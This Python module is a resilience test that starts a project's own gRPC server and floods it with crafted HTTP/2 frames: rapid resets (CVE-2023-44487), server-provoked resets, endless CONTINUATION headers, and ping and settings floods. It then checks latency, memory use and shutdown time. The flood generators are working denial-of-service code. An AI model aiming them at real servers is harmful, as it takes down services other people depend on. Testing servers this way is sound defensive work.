"""Floods of HTTP/2 frames from eight connections, of every kind that a client without credentials can send, while others ask for state and stop."""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import os
import pathlib
import re
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from typing import Any, Callable, cast

import grpc

from programs import PATIENCE_S, ROOT, Result, Server, emulated_rig, own_channel, scratch

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
STREAM = "/touchstone.v1.Source/StreamDataset"
UPLOAD, REFLECTION = "/touchstone.v1.Sessions/CreateSession", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
STOP, STATE = "/touchstone.v1.Control/Stop", "/touchstone.v1.Control/GetState"
EVERY_OTHER = "every method of the protocol but Stop"
# What must hold beside a flood: how long a new client waits, and the server's memory and end.
MAX_S = {STATE: 1.0, STOP: 0.2}
# drain_s, and a moment to end: gRPC waits for it where a client does not answer its last ping.
MAX_RSS_MIB, DRAIN_S = 300, 9.0
FRAMES_AT_ONCE = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A field of RFC 7541, 6.2.2: not indexed, its name and value as they are."""
    length = bytes((len(value),)) if len(value) < 127 else bytes((127,)) + _continued(len(value) - 127)
    return b"\x00" + bytes((len(name),)) + name + length + value


def _continued(number: int) -> bytes:
    """The rest of an integer of RFC 7541, 5.1."""
    out = bytearray()
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes((*out, number))


def head_of(method: str) -> bytes:
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", method.encode()), (b":authority", b"x"), (b"te", b"trailers"),
              (b"content-type", b"application/grpc"))
    return b"".join(_literal(name, value) for name, value in fields)


@functools.cache
def heads_of(method: str) -> tuple[bytes, ...]:
    """Of a method, or of EVERY_OTHER, in turn."""
    if method != EVERY_OTHER:
        return (head_of(method),)
    methods = [f"/touchstone.v1.{service.split(' ')[0]}/{call}" for proto in sorted((ROOT / "proto/touchstone/v1").glob("*.proto"))
               for service in re.split(r"^service ", proto.read_text(), flags=re.MULTILINE)[1:]
               for call in re.findall(r"^  rpc (\w+)\(", service, re.MULTILINE)]
    return tuple(head_of(each) for each in methods if each != STOP)


def _begun(streams: range, method: str) -> Iterator[tuple[int, bytes]]:
    """Each stream, and the frame that begins a call on it."""
    heads = heads_of(method)
    for stream in streams:
        yield stream, frame(HEADERS, END_HEADERS, stream, heads[stream // 2 % len(heads)])


def _reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def rapid_reset(method: str) -> Iterator[bytes]:
    """Calls that are begun and reset at once (CVE-2023-44487)."""
    for first in range(1, 2**31, 2 * FRAMES_AT_ONCE):
        yield b"".join(begun + _reset(stream) for stream, begun in _begun(range(first, first + 2 * FRAMES_AT_ONCE, 2), method))


def made_you_reset(method: str) -> Iterator[bytes]:
    """Calls that the server resets, since a window grows by nothing (CVE-2025-8671)."""
    for first in range(1, 2**31, 2 * FRAMES_AT_ONCE):
        yield b"".join(begun + frame(WINDOW_UPDATE, 0, stream, bytes(4))
                       for stream, begun in _begun(range(first, first + 2 * FRAMES_AT_ONCE, 2), method))


def continuation(method: str) -> Iterator[bytes]:
    """A head that does not end (CVE-2024-24549 and others)."""
    yield frame(HEADERS, 0, 1, head_of(method))
    while True:
        yield frame(CONTINUATION, 0, 1, _literal(b"x", os.urandom(8000))) * 8


def empty_continuation(method: str) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, head_of(method))
    while True:
        yield frame(CONTINUATION, 0, 1) * FRAMES_AT_ONCE


def pings(_: str) -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * FRAMES_AT_ONCE


def settings(_: str) -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * FRAMES_AT_ONCE


def priorities(_: str) -> Iterator[bytes]:
    while True:
        yield frame(PRIORITY, 0, 1, bytes(5)) * FRAMES_AT_ONCE


def windows(_: str) -> Iterator[bytes]:
    while True:
        yield frame(WINDOW_UPDATE, 0, 3, struct.pack(">I", 1)) * FRAMES_AT_ONCE


def empty_data(method: str) -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, head_of(method))
    while True:
        yield frame(DATA, 0, 1) * FRAMES_AT_ONCE


def open_calls(method: str) -> Iterator[bytes]:
    """As many calls as a connection may have, without a first message, for good."""
    yield b"".join(begun for _, begun in _begun(range(1, 257, 2), method))
    while True:
        time.sleep(0.2)
        yield b""


def calls(method: str) -> Iterator[bytes]:
    """Whole calls with an empty message, one after the other, whose answers nobody waits for."""
    for first in range(1, 2**31, 64):
        yield b"".join(begun + frame(DATA, END_STREAM, stream, bytes(5)) for stream, begun in _begun(range(first, first + 64, 2), method))


@dataclasses.dataclass(frozen=True)
class Flood:
    name: str
    frames: Callable[[str], Iterator[bytes]]
    method: str = "/grpc.health.v1.Health/Check"
    reads: bool = True  # the server's frames


FLOODS = (
    Flood("rapid resets of health checks", rapid_reset),
    Flood("rapid resets of streams", rapid_reset, STREAM),
    Flood("rapid resets of uploads", rapid_reset, UPLOAD),
    Flood("rapid resets of states", rapid_reset, STATE),
    Flood("rapid resets of reflection", rapid_reset, REFLECTION),
    Flood("rapid resets of every other method", rapid_reset, EVERY_OTHER),
    Flood("resets by the server", made_you_reset),
    Flood("heads without an end", continuation),
    Flood("heads of empty frames", empty_continuation),
    Flood("pings", pings),
    Flood("pings whose answers nobody reads", pings, reads=False),
    Flood("settings", settings),
    Flood("settings whose answers nobody reads", settings, reads=False),
    Flood("priorities", priorities),
    Flood("windows", windows),
    Flood("empty data", empty_data, UPLOAD),
    Flood("uploads without a message", open_calls, UPLOAD),
    Flood("reflection without a message", open_calls, REFLECTION),
    Flood("watched health without a message", open_calls, "/grpc.health.v1.Health/Watch"),
    Flood("states without a message", open_calls, STATE),
    Flood("streams without a message", open_calls, STREAM),
    Flood("every other method without a message", open_calls, EVERY_OTHER),
    Flood("whole calls", calls, STATE),
    Flood("whole calls of every other method", calls, EVERY_OTHER),
    Flood("whole calls of health", calls),
)


def _swallow(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def _connect(host: str, port: int, tls: bool) -> socket.socket:
    connection = socket.create_connection((host, port))
    if not tls:
        return connection
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def _send_and_swallow(connection: socket.socket, data: bytes, reads: bool) -> None:
    """As sendall() beside _swallow() of a connection with TLS, which two threads may not use at once."""
    view = memoryview(data)
    while view:
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
            view = view[connection.send(view):]
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while reads:
                if not connection.recv(1 << 16):
                    raise ConnectionResetError
        if view:
            select.select([connection] if reads else [], [connection], [], 0.1)


def _send(flood: Flood, host: str, port: int, tls: bool, until: float) -> None:
    """One connection at a time; a new one when the server closes it."""
    while time.monotonic() < until:
        try:
            with _connect(host, port, tls) as connection:
                send = connection.sendall
                if tls:
                    connection.setblocking(False)
                    send = functools.partial(_send_and_swallow, connection, reads=flood.reads)
                elif flood.reads:
                    threading.Thread(target=_swallow, args=(connection,), daemon=True).start()
                send(PREFACE + frame(SETTINGS, 0, 0))
                for piece in flood.frames(flood.method):
                    if time.monotonic() >= until:
                        return
                    send(piece)
        except OSError:
            time.sleep(0.01)


def _run_flood(flood: Flood, target: str, tls: bool, connections: int, seconds: float) -> None:
    host, port = target.rsplit(":", 1)
    until = time.monotonic() + seconds
    for _ in range(connections):
        threading.Thread(target=_send, args=(flood, host, int(port), tls, until), daemon=True).start()
    time.sleep(seconds)


@contextlib.contextmanager
def _process(flood: Flood, target: str, tls: bool, connections: int, seconds: float):
    """The flood from a process of its own."""
    words = [sys.executable, __file__, str(FLOODS.index(flood)), target, str(int(tls)), str(connections), str(seconds)]
    with subprocess.Popen(words) as process:
        yield process
        process.kill()


@dataclasses.dataclass(frozen=True)
class Attacked:
    """How a server is started, and reached by others; ca: its certificate's bytes."""

    options: tuple[str, ...] = ()
    gateway: bool = False
    ca: bytes = b""

    def start(self) -> Server:
        return Server("--log-level", "off", *self.options, gateway=self.gateway)

    def channel(self, target: str) -> grpc.Channel:
        if not self.ca:
            return own_channel(target)
        return grpc.secure_channel(target, grpc.ssl_channel_credentials(self.ca), options=[("grpc.use_local_subchannel_pool", 1)])


@contextlib.contextmanager
def _server():
    yield Attacked()


@contextlib.contextmanager
def _gateway():
    with scratch() as folder, emulated_rig(folder) as emulator:
        yield Attacked(("--config", emulator.ready), gateway=True)


@contextlib.contextmanager
def _server_with_tls():
    with scratch() as folder:
        certificate, key = pathlib.Path(folder) / "server.pem", pathlib.Path(folder) / "server.key"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj",
                        "/CN=localhost", "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1", "-keyout", key, "-out", certificate],
                       check=True, capture_output=True)
        yield Attacked(("--tls-cert", str(certificate), "--tls-key", str(key), "--insecure"), ca=certificate.read_bytes())


SOURCES = {"server": _server, "gateway": _gateway, "server with TLS": _server_with_tls}


def _ask(channel: grpc.Channel, method: str) -> tuple[float, str]:
    """Seconds that a new client waits for its answer, and what was wrong."""
    began, call = time.monotonic(), cast(Any, channel.unary_unary(method))
    try:
        call(b"", timeout=PATIENCE_S)
    except grpc.RpcError as error:
        return time.monotonic() - began, f"{error.code().name}: {error.details()}"
    return time.monotonic() - began, ""


def _beside(flood: Flood, source: str, attacked: Attacked, connections: int, seconds: float, slack: float, result: Result) -> None:
    waited: dict[str, list[float]] = {method: [] for method in MAX_S}
    name = f"{flood.name} at a {source}"
    with attacked.start() as server, _process(flood, server.target, bool(attacked.ca), connections, seconds) as flooding:
        rss, ends = 0, time.monotonic() + seconds
        while time.monotonic() < ends and flooding.poll() is None:
            for method, waits in waited.items():
                with attacked.channel(server.target) as channel:
                    s, wrong = _ask(channel, method)
                waits.append(s)
                result.expect(not wrong, f"{name}: {method}: {wrong}")
            rss = max(rss, server.resident_bytes() >> 20)
        # 0: it came to its end a moment before this.
        result.expect(flooding.poll() in (None, 0), f"{name}: the flood itself ended with {flooding.poll()}")
        if not server.alive():
            result.failures.append(f"{name}: the server ended with {server.process.returncode}")
            return
        began = time.monotonic()
        server.process.terminate()
        server.process.wait()
        drain_s = time.monotonic() - began
    for method, waits in waited.items():
        result.expect(max(waits) <= slack * MAX_S[method], f"{name}: {method} took {max(waits):.2f} s")
    result.expect(rss <= MAX_RSS_MIB, f"{name}: {rss} MiB")
    result.expect(drain_s <= slack * DRAIN_S, f"{name}: it ended {drain_s:.1f} s after SIGTERM")
    told = ", ".join(f"{method.rsplit('/', 1)[1]} after at most {max(waits):.3f} s" for method, waits in waited.items())
    result.seen.append(f"{name}: {told} ({len(waited[STOP])} times), {rss} MiB, ended {drain_s:.1f} s "
                       "after SIGTERM")


def run(connections: int = 8, seconds: float = 60, names: tuple[str, ...] = (), sources: tuple[str, ...] = tuple(SOURCES),
        slack: float = 1) -> Result:
    """names: of floods; all unless given. sources: of SOURCES. slack: by which times may be longer, on a busy machine."""
    result = Result()
    for source in sources:
        with SOURCES[source]() as attacked:
            for flood in FLOODS:
                if not names or flood.name in names:
                    _beside(flood, source, attacked, connections, seconds, slack, result)
    return result


if __name__ == "__main__":
    _run_flood(FLOODS[int(sys.argv[1])], sys.argv[2], sys.argv[3] == "1", int(sys.argv[4]), float(sys.argv[5]))
